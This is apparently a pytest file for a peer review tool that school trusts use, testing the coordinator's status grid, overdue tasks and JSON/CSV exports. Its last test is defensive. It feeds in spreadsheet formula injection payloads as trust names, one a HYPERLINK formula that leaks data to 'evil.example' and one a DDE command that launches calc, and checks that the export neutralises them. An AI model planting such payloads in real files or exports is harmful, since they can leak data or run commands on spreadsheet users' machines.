"""The coordinator's status view: the trust x strand grid, progress, overdue work and who holds it, exports."""

from __future__ import annotations

import csv
import io
import json

import pytest

from peer_review.service.queries import overview, overview_csv_rows, overview_json
from peer_review.store import db

from helpers import EXAMPLE, run_cli

pytestmark = pytest.mark.db


def test_overview_of_a_planned_triad(planned):
    with db.session_scope() as session:
        view = overview(session)
    data = overview_json(view)
    assert [t["id"] for t in data["trusts"]] == ["steel-valley", "don-river", "peak-edge"]
    steel = data["trusts"][0]
    assert steel["grid"]["school-improvement"]["stage"] == "assignment"  # review 1 was opened
    assert steel["grid"]["workforce"]["stage"] == "scheduled"
    assert (steel["closed"], steel["reviews"]) == (0, 4)
    # the 2023 due dates are long past: the team's three answers are overdue, with who holds them
    assert {o["email"] for o in data["overdue"]} == {
        "owen.fletcher@donriver.example.org",
        "joe.hartley@peakedge.example.org",
        "daniel.okafor@coordinator.example.org",
    }
    assert all(o["days_overdue"] > 365 for o in data["overdue"])
    rows = overview_csv_rows(view)
    assert len(rows) == 12
    [first] = [r for r in rows if r["review"] == 1]
    assert first["overdue_tasks"] == 3 and first["held_up_by"].count("@") == 3 and first["most_overdue_days"] > 365
    assert all(r["overdue_tasks"] == 0 for r in rows if r["review"] != 1)


def test_status_exports_from_the_command_line(tmp_path):
    env = {"PEER_REVIEW_DATABASE_URL": f"sqlite:///{tmp_path / 's.db'}"}
    assert run_cli("partnership", "load", EXAMPLE, cwd=tmp_path, env=env).returncode == 0
    empty = run_cli("status", "--json", cwd=tmp_path, env=env)
    assert empty.returncode == 2 and "no reviews yet" in empty.stderr
    assert run_cli("plan", cwd=tmp_path, env=env).returncode == 0
    assert run_cli("plan", "--publish", cwd=tmp_path, env=env).returncode == 0
    data = json.loads(run_cli("status", "--json", cwd=tmp_path, env=env).stdout)
    assert sum(len(t["grid"]) for t in data["trusts"]) == 12
    rows = list(csv.DictReader(io.StringIO(run_cli("status", "--csv", cwd=tmp_path, env=env).stdout)))
    assert len(rows) == 12 and {r["stage"] for r in rows} == {"scheduled"}
    shown = run_cli("status", cwd=tmp_path, env={**env, "COLUMNS": "200"})
    assert "0 of 4 closed" in shown.stdout and "Stages, in order" in shown.stdout


def test_tasks_as_json_for_scripts(planned):
    result = run_cli("tasks", "--json", env={"PEER_REVIEW_DATABASE_URL": planned})
    assert result.returncode == 0, result.stderr
    tasks = json.loads(result.stdout)
    assert {t["assignee_email"] for t in tasks} == {
        "owen.fletcher@donriver.example.org",
        "joe.hartley@peakedge.example.org",
        "daniel.okafor@coordinator.example.org",
    }
    assert all(t["kind"] == "respond_to_assignment" and t["review_id"] == 1 and t["due"] == "2023-11-27" for t in tasks)


def test_csv_cells_that_a_spreadsheet_would_run_stay_text(tmp_path):
    formula = '=HYPERLINK("http://evil.example/?leak","Click me")'
    text = (
        EXAMPLE.read_text()
        .replace("name: Steel Valley Academy Trust", "name: '" + formula + "'")
        .replace("name: Peak Edge Schools Trust", "name: \"+cmd|' /C calc'!A0\"")
    )
    path = tmp_path / "hostile.yaml"
    path.write_text(text)
    env = {"PEER_REVIEW_DATABASE_URL": f"sqlite:///{tmp_path / 'h.db'}"}
    assert run_cli("partnership", "load", path, cwd=tmp_path, env=env).returncode == 0
    assert run_cli("plan", cwd=tmp_path, env=env).returncode == 0
    assert run_cli("plan", "--publish", cwd=tmp_path, env=env).returncode == 0
    shown = run_cli("status", "--csv", cwd=tmp_path, env=env)
    hosts = {row["host"] for row in csv.DictReader(io.StringIO(shown.stdout))}
    assert hosts == {"'" + formula, "'+cmd|' /C calc'!A0", "Don River Learning Partnership"}
